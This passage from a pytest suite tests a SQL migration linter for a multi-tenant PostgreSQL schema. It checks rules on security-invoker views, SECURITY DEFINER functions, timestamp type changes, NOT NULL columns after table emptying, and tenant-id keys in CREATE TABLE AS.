                                "BEGIN ATOMIC DELETE FROM usr_mast; END;")),
    ("shared-security-definer", "ALTER FUNCTION usr_cnt() SECURITY DEFINER;"),
])
def test_shared_mode_rules(tmp_path: Path, rule: str, sql: str) -> None:
    findings = lint_shared(tmp_path, sql)
    assert [(f.rule, f.line) for f in findings] == [(rule, 1)], findings
    assert findings[0].severity == "error" and findings[0].hint == RULES[rule].hint
    assert lint_shared(tmp_path / "dedicated", sql, shared_mode=False) == []


@pytest.mark.parametrize("sql", [
    "CREATE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id, usr_nm FROM usr_mast;",
    "CREATE VIEW usr_v WITH (security_invoker) AS SELECT clnt_id FROM usr_mast;",
    "CREATE OR REPLACE VIEW usr_v WITH (security_barrier, security_invoker = on) AS SELECT clnt_id FROM usr_mast;",
    "CREATE VIEW usr_v WITH (security_invoker = 1) AS SELECT clnt_id FROM usr_mast;",
    "CREATE TEMP VIEW tmp_v AS SELECT 1;",
    "ALTER VIEW usr_v SET (security_invoker = true);",
    "ALTER VIEW usr_v SET (security_barrier = true);",
    "ALTER VIEW usr_v RENAME TO usr_v2;",
    "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY INVOKER AS 'SELECT 1';",
    "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql AS 'SELECT 1';",
    "ALTER FUNCTION usr_cnt() SECURITY INVOKER;",
    "REFRESH MATERIALIZED VIEW CONCURRENTLY something_old;",
])
def test_shared_mode_rules_no_false_alarms(tmp_path: Path, sql: str) -> None:
    assert lint_shared(tmp_path, sql) == []


def test_shared_mode_view_rules_see_alter_table_on_a_known_view(tmp_path: Path) -> None:
    sql = ("CREATE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id FROM usr_mast;\n"
           "ALTER TABLE usr_v RESET (security_invoker);\n")
    only(lint_shared(tmp_path, sql), "view-needs-security-invoker", 2, file="v1.0.1_step.sql")


def test_shared_mode_rules_check_down_scripts(tmp_path: Path) -> None:
    up = "CREATE OR REPLACE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id FROM usr_mast;"
    down = "CREATE OR REPLACE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"
    findings = lint_with_down(tmp_path, up, down, shared_mode=True)
    assert [(f.rule, f.file) for f in findings] == [("view-needs-security-invoker", "v1.0.1_step.down.sql")]


def test_typical_xos_migrations_in_shared_mode(tmp_path: Path) -> None:
    folder = tmp_path / "migrations"
    folder.mkdir()
    for number, sql in enumerate([BASE, XOS, XOS_NO_TRANSACTION, XOS_LATER]):
        (folder / f"v1.0.{number}_step_{number}.sql").write_text(sql)
    findings = lint_migrations(load_migrations(folder), global_tables=GLOBAL, shared_mode=True)
    assert [f.rule for f in findings] == ["shared-materialized-view"]  # grp_cnt_mv; the view is invoker


def test_every_rule_is_documented_in_docs_lint_rules() -> None:
    docs = (ROOT / "docs" / "lint-rules.md").read_text(encoding="utf-8")
    for rule_id, rule in RULES.items():
        assert f"### `{rule_id}` ({rule.severity})" in docs, rule_id
        section = docs.split(f"### `{rule_id}`", 1)[1].split("\n### ", 1)[0]
        for part in ("**Catches**", "**Why**", "**Fix**"):
            assert part in section, (rule_id, part)


# -- fewer false positives (real-world histories) ------------------------------------------

EVT = ("CREATE TABLE evt (clnt_id int2 NOT NULL, site_id int2 NOT NULL, evt_id int8 NOT NULL,\n"
       "  at_ts timestamp, at_tz timestamptz, at_ms timestamp(6));\n")


@pytest.mark.parametrize("sql", [
    "ALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz;",
    "ALTER TABLE evt ALTER COLUMN at_ts TYPE timestamp with time zone;",
    "ALTER TABLE evt ALTER COLUMN at_tz TYPE timestamp without time zone;",
    "ALTER TABLE evt ALTER COLUMN at_ms TYPE timestamptz(6);",
    "SET TimeZone = 'Europe/Paris';\nALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz;",
    "SET TimeZone = 'UTC';\nRESET TimeZone;\nALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz;",
    "SET TIME ZONE 'UTC';\nRESET ALL;\nALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz;",
])
def test_timestamp_to_timestamptz_is_a_warning_not_the_type_error(tmp_path: Path, sql: str) -> None:
    line = sql.count("\n") + 1
    finding = only(lint(tmp_path, EVT, sql), "alter-column-type-timestamptz", line,
                   file="v1.0.2_step_2.sql", name="evt.at_")
    assert finding.severity == "warning" and "TimeZone is UTC" in finding.hint


@pytest.mark.parametrize("sql", [
    "SET TimeZone = 'UTC';\nALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz;",
    "SET LOCAL TIME ZONE 'Etc/UTC';\nALTER TABLE evt ALTER COLUMN at_tz TYPE timestamp;",
    "SET timezone TO 'utc';\nALTER TABLE evt ALTER COLUMN at_ms TYPE timestamptz;",
])
def test_timestamptz_change_under_utc_is_clean(tmp_path: Path, sql: str) -> None:
    assert lint(tmp_path, EVT, sql) == []


@pytest.mark.parametrize("sql", [
    "ALTER TABLE evt ALTER COLUMN at_ts TYPE date;",
    "ALTER TABLE evt ALTER COLUMN at_ts TYPE timestamptz USING at_ts AT TIME ZONE 'Europe/Paris';",
    "ALTER TABLE evt ALTER COLUMN at_ms TYPE timestamptz(3);",  # less precision: rounds every row
    "SET TimeZone = 'UTC';\nALTER TABLE evt ALTER COLUMN at_tz TYPE text;",
])
def test_other_type_changes_keep_the_error(tmp_path: Path, sql: str) -> None:
    only(lint(tmp_path, EVT, sql), "ban-alter-column-type", sql.count("\n") + 1, file="v1.0.2_step_2.sql")


@pytest.mark.parametrize("sql", [
    "DELETE FROM usr_mast;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM public.usr_mast;\nUPDATE site_mast SET site_cd = site_cd;\n"
    "ALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "INSERT INTO usr_mast SELECT 1;\nDELETE FROM usr_mast;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "CREATE TABLE new_t (clnt_id int2 NOT NULL);\nINSERT INTO new_t VALUES (1);\n"
    "ALTER TABLE new_t ADD COLUMN x int NOT NULL;",
])
def test_add_column_not_null_on_a_table_the_file_emptied_is_fine(tmp_path: Path, sql: str) -> None:
    assert lint(tmp_path, sql) == []


def test_add_column_not_null_after_truncate_reports_only_the_truncate(tmp_path: Path) -> None:
    sql = "TRUNCATE usr_mast CASCADE;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;"
    only(lint(tmp_path, sql), "ban-truncate", 1)


@pytest.mark.parametrize("sql", [
    "DELETE FROM usr_mast WHERE usr_id = 0;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM usr_mast;\nINSERT INTO usr_mast (clnt_id) VALUES (1);\n"
    "ALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM usr_mast;\nCOPY usr_mast FROM STDIN;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM ONLY usr_mast;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM usr_mast USING site_mast;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
    "DELETE FROM site_mast;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;",
])
def test_add_column_not_null_on_a_table_that_may_have_rows(tmp_path: Path, sql: str) -> None:
    only(lint(tmp_path, sql), "add-column-not-null-no-default", sql.count("\n") + 1, name="usr_mast.lcl_cd")


def test_emptied_in_an_earlier_file_does_not_count(tmp_path: Path) -> None:
    later = "ALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;"
    only(lint(tmp_path, "DELETE FROM usr_mast;", later), "add-column-not-null-no-default", 1,
         file="v1.0.2_step_2.sql")


@pytest.mark.parametrize("sql", [
    "SELECT cntry_cd, cntry_nm INTO cntry_copy FROM cntry_mast;",
    "CREATE TABLE cntry_copy AS SELECT * FROM cntry_mast;",
    "SELECT c.* INTO cntry_copy FROM cntry_mast c;",
    "CREATE TABLE cntry_copy AS SELECT cntry_cd FROM cntry_mast UNION SELECT 'XX';",
    "CREATE TABLE cntry_copy AS VALUES ('XX', 'Nowhere');",
    "CREATE TABLE cntry_copy AS SELECT upper(cntry_cd), cntry_nm::varchar(40) FROM cntry_mast;",
    "SELECT u.usr_id, u.usr_nm INTO cntry_copy FROM usr_mast u;",
])
def test_create_table_as_and_select_into_need_clnt_id(tmp_path: Path, sql: str) -> None:
    only(lint(tmp_path, sql), "tenant-table-needs-clnt-id", 1, name="cntry_copy")


@pytest.mark.parametrize("sql", [
    "SELECT * INTO usr_copy FROM usr_mast;",
    "SELECT u.clnt_id::int2, u.site_id, usr_id INTO usr_copy FROM usr_mast u;",
    "CREATE TABLE usr_copy AS SELECT u.*, s.site_cd FROM usr_mast u JOIN site_mast s USING (clnt_id, site_id);",
    "SELECT * INTO TEMP tmp_cntry FROM cntry_mast;",
    "SELECT * INTO ccy_mast FROM cntry_mast;",  # a global table
    "SELECT * INTO unknown_copy FROM table_from_before_this_folder;",  # columns not known
    "CREATE TABLE usr_copy AS SELECT * FROM (SELECT usr_id FROM usr_mast) s;",  # not followed
    "SELECT 1;\nSELECT count(*) FROM usr_mast;",  # no INTO: not a table
])
def test_create_table_as_and_select_into_no_false_alarms(tmp_path: Path, sql: str) -> None:
    assert lint(tmp_path, sql, global_tables=frozenset({"cntry_mast", "ccy_mast"})) == []


def test_keys_added_later_to_a_created_as_table_are_judged(tmp_path: Path) -> None:
    first = ("CREATE TABLE usr_copy AS SELECT clnt_id, site_id, usr_id FROM usr_mast;\n"
             "SELECT cntry_cd INTO cntry_copy FROM cntry_mast;\n")
    later = ("-- tenantctl: allow require-concurrent-index\n"
             "ALTER TABLE usr_copy ADD CONSTRAINT usr_copy_pk PRIMARY KEY (usr_id);\n"
             "ALTER TABLE usr_copy ADD CONSTRAINT usr_copy_uk UNIQUE (clnt_id, site_id, usr_id);\n"
             "ALTER TABLE cntry_copy ADD CONSTRAINT cntry_copy_pk PRIMARY KEY (cntry_cd);\n")
    findings = lint(tmp_path, first, later)
    assert [(f.rule, f.file, f.line) for f in findings] == [
        ("tenant-table-needs-clnt-id", "v1.0.1_step_1.sql", 2),
        ("key-leads-with-clnt-id", "v1.0.2_step_2.sql", 2),
    ]
